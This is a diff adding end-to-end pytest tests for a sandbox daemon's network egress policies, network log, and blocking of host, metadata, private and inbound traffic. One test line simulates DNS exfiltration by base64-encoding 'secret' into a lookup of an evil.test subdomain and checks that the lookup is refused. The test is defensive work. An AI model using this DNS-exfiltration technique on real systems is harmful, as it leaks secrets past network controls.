@@ -32,7 +32,6 @@ import socket
 import subprocess
 import sys
 import tempfile
-import textwrap
 import time
 
 import pytest
@@ -633,3 +632,159 @@ def test_attach_cost(harness):
     print(f"\nattach ms: median {med:.2f}, min {times[0]:.2f}, max {times[-1]:.2f}")
     limit = 5.0 if "build-check" not in brigtest.BUILD and "san" not in brigtest.BUILD else 15.0
     assert med <= limit, times
+
+
+# ---------------------------------------------------------------- end to end
+
+libc = __import__("ctypes").CDLL(None, use_errno=True)
+
+
+class in_netns:
+    """The calling thread in namespace name (sockets made and processes
+    started meanwhile live there); restored on exit."""
+
+    def __init__(self, name):
+        self.name = name
+
+    def __enter__(self):
+        self.orig = os.open("/proc/thread-self/ns/net", os.O_RDONLY)
+        fd = os.open(f"/run/netns/{self.name}", os.O_RDONLY)
+        try:
+            assert libc.setns(fd, 0x40000000) == 0  # CLONE_NEWNET
+        finally:
+            os.close(fd)
+
+    def __exit__(self, *exc):
+        assert libc.setns(self.orig, 0x40000000) == 0
+        os.close(self.orig)
+
+
+class NsApi(brigtest.Api):
+    def request(self, *a, **kw):
+        with in_netns(HOSTNS):
+            return super().request(*a, **kw)
+
+
+def brigd_serves_network():
+    brigd = os.path.join(brigtest.BUILD, "brigd")
+    if not os.path.exists(brigd):
+        return False
+    routes = sh(brigd, "--print-routes", check=False).stdout
+    return "PATCH /v1/projects/{id}" in routes and "GET /v1/sandboxes/{id}/network-log" in routes
+
+
+@pytest.fixture(scope="module")
+def netd(inet):
+    """A brigd of this module's own, started inside the test host namespace
+    (so its firewall and links are there), with the test DNS as upstream."""
+    if not brigd_serves_network():
+        pytest.skip("brigd does not serve projects' egress and the network log yet")
+    d = brigtest.Brigd(os.path.join(inet["tmp"], "brigd"))
+    old = os.environ.get("BRIG_DNS_UPSTREAM")
+    os.environ["BRIG_DNS_UPSTREAM"] = f"{DNS}:53"
+    try:
+        with in_netns(HOSTNS):
+            d.start()
+    finally:
+        if old is None:
+            del os.environ["BRIG_DNS_UPSTREAM"]
+        else:
+            os.environ["BRIG_DNS_UPSTREAM"] = old
+    if "networking off" in d.log():
+        d.stop()
+        pytest.fail(f"brigd runs without networking:\n{d.log()}")
+    d.net_api = NsApi(d.url, d.key)
+    yield d
+    d.stop()
+    left = brigtest.leftovers(d.state_dir)
+    assert not left, f"left behind: {left}"
+
+
+@pytest.fixture
+def napi(netd):
+    a = netd.net_api
+    yield a
+    for sb in a.ok("GET", "/v1/sandboxes").json()["sandboxes"]:
+        if sb.get("state") not in ("deleted", "ended"):
+            a.request("DELETE", f"/v1/sandboxes/{sb['id']}")
+    brigtest.wait_for(lambda: sandbox_links() == [], what="sandbox links gone")
+    assert table_elements() == []
+    assert not brigtest.leftovers(netd.state_dir)
+
+
+def sbexec(a, sid, cmd, timeout=20):
+    r = a.exec(sid, cmd, timeout=timeout)
+    return r["exit_code"], r["stdout"] + r["stderr"]
+
+
+def fetch(a, sid, url):
+    """curl in the sandbox (template base: busybox's static wget cannot resolve)."""
+    return sbexec(a, sid, f"curl -sS -m 2 {url}")
+
+
+def gateway(a, sid):
+    rc, out = sbexec(a, sid, "cat /etc/resolv.conf")
+    assert rc == 0 and out.startswith("nameserver 10."), out
+    return out.split()[1]
+
+
+def addr_of(a, sid):
+    gw = gateway(a, sid)  # the sandbox's end of its /31 is the gateway + 1
+    return socket.inet_ntoa((int.from_bytes(socket.inet_aton(gw), "big") + 1).to_bytes(4, "big"))
+
+
+@pytest.mark.base
+def test_e2e_policies_through_the_api(napi):
+    p = napi.ok("POST", "/v1/projects", {"name": "net-e2e"}).json()
+    sb = napi.create(template="base", project=p["id"])["id"]
+    gateway(napi, sb)
+    # open (the default)
+    assert fetch(napi, sb, "http://allowed.test/") == (0, f"hello from {ALLOWED}\n")
+    assert fetch(napi, sb, f"http://{OTHER}/")[0] == 0
+    # allowlist, applied to the running sandbox within a second
+    napi.ok("PATCH", f"/v1/projects/{p['id']}",
+            {"egress": {"mode": "allowlist", "domains": ["allowed.test"]}})
+    t0 = time.monotonic()
+    assert fetch(napi, sb, f"http://{OTHER}/")[0] != 0
+    assert time.monotonic() - t0 < 4.0
+    assert fetch(napi, sb, "http://allowed.test/")[0] == 0
+    assert fetch(napi, sb, "http://other.test/")[0] != 0
+    rc, out = sbexec(napi, sb, "getent hosts $(echo secret | base64 | tr -d =).evil.test")
+    assert rc != 0, out
+    recs = napi.ok("GET", f"/v1/sandboxes/{sb}/network-log").json()["entries"]
+    dns = [r for r in recs if r["kind"] == "dns"]
+    assert any(r["name"] == "allowed.test" and r["allowed"] for r in dns)
+    exfil = [r for r in dns if r["name"].endswith(".evil.test")]
+    assert exfil and not any(r["allowed"] for r in exfil)
+    assert {r["rcode"] for r in exfil} == {"REFUSED"}
+    assert any(r["kind"] == "denied" and r["dst"] == OTHER for r in recs)
+    # none
+    napi.ok("PATCH", f"/v1/projects/{p['id']}", {"egress": {"mode": "none"}})
+    assert fetch(napi, sb, "http://allowed.test/")[0] != 0
+    assert fetch(napi, sb, f"http://{ALLOWED}/")[0] != 0
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_e2e_denied_destinations_and_inbound(napi, netd, inet):
+    a = napi.create(template="base")["id"]
+    b = napi.create(template="base")["id"]
+    gw, a_addr, b_addr = gateway(napi, a), addr_of(napi, a), addr_of(napi, b)
+    api_port = netd.url.rstrip("/").rsplit(":", 1)[1]
+    # brigd's API and the host's addresses: dropped, so curl times out (28)
+    # rather than being refused (7)
+    for host in (gw, HOST_ADDR):
+        rc, out = fetch(napi, a, f"http://{host}:{api_port}/healthz")
+        assert rc == 28, (host, rc, out)
+    assert fetch(napi, a, f"http://{META}/")[0] == 28
+    assert fetch(napi, a, f"http://{PRIV}/")[0] == 28
+    assert fetch(napi, a, f"http://{b_addr}:8000/")[0] == 28
+    # inbound, from the host namespace: dropped too (a timeout, not a refusal)
+    r = client(inet, HOSTNS, "tcp", a_addr, "22")
+    assert not r["ok"] and "timed out" in r["error"], r
+    recs = napi.ok("GET", f"/v1/sandboxes/{a}/network-log").json()["entries"]
+    kinds = {(r.get("reason"), r.get("dst")) for r in recs if r["kind"] == "denied"}
+    assert ("host", gw) in kinds and ("policy", META) in kinds
+    assert ("policy", b_addr) in kinds and ("inbound", a_addr) in kinds
+    napi.delete(a)
+    napi.delete(b)
